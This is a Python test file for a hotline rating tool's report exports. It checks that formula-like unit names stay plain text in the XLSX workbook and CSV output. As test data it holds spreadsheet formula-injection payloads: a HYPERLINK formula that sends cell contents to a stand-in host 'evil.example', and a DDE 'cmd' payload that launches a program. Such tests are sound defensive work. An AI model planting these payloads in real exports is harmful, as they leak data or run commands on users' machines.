"""Names from outside (channel variables, case records, a counts file) stay text in the 通报表 and the CSVs."""

from __future__ import annotations

import io
import zipfile
from datetime import datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from hotline_eval.figures_csv import read_counts
from rating_core.reports.cell_text import csv_text
from rating_core.reports.export import COLUMNS, write_csv
from rating_core.reports.figures import FiguresTable
from rating_core.reports.figures_xlsx import write_report
from rating_core.reports.scoring import load_scoring_rules, score_units

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_a_unit_named_like_a_formula_is_text_in_the_workbook() -> None:
    rules = load_scoring_rules()
    scheme = rules.scheme("zibo-district")
    units, _ = read_counts(["name,A,M,P,I,D,T,B,N1,N2,N3",
                            f'"{LINK.replace(chr(34), chr(34) * 2)}",10,8,6,5,2,1,1,1,1,1',
                            "@SUM(1+1),10,8,6,5,2,1,1,1,1,1"])
    table = FiguresTable(score_units(units, scheme, rules), [], {}, [], scheme.min_ratings)
    data = write_report(table, scheme, rules, "通报", "区县",
                        datetime(2026, 12, 6, 9, tzinfo=ZoneInfo("Asia/Shanghai")))
    sheet = load_workbook(io.BytesIO(data)).active
    names = {sheet.cell(row=row, column=2).value: sheet.cell(row=row, column=2).data_type for row in (5, 6)}
    assert names == {LINK: "s", "@SUM(1+1)": "s"}
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        assert "<f>" not in xlsx.read("xl/worksheets/sheet1.xml").decode()  # no formula anywhere


def test_the_ratings_csv_quotes_what_a_spreadsheet_would_run() -> None:
    row = dict.fromkeys(COLUMNS, "") | {"unit": "=cmd|' /C calc'!A0", "queue": "+社保", "agent_id": "1024",
                                         "menu_plays": -1, "reason_tags": ["-attitude"]}
    out = io.StringIO()
    write_csv(iter([row]), out)
    written = out.getvalue().splitlines()[1]
    assert "'=cmd|' /C calc'!A0" in written and "'+社保" in written and "'-attitude" in written
    assert ",1024," in written and ",-1," in written  # plain values and numbers stay as they are
    assert csv_text("市人社局") == "市人社局" and csv_text(-3) == -3


def test_figures_score_writes_a_formula_like_unit_name_as_text_and_negative_figures_as_numbers(tmp_path) -> None:
    from click.testing import CliRunner

    from hotline_eval.cli import main

    counts = tmp_path / "counts.csv"
    counts.write_text("name,A,M,P,I,D,T,B,N1,N2,N3\n=1+1,10,8,6,5,2,1,1,1,1,1\n", encoding="utf-8")
    done = CliRunner().invoke(main, ["figures", "score", "--rules", "zibo-district", "--input", str(counts)])
    assert done.exit_code == 0, done.output
    row = done.output.splitlines()[1].split(",")
    assert row[0] == "'=1+1" and not any(cell.startswith("'") for cell in row[1:])
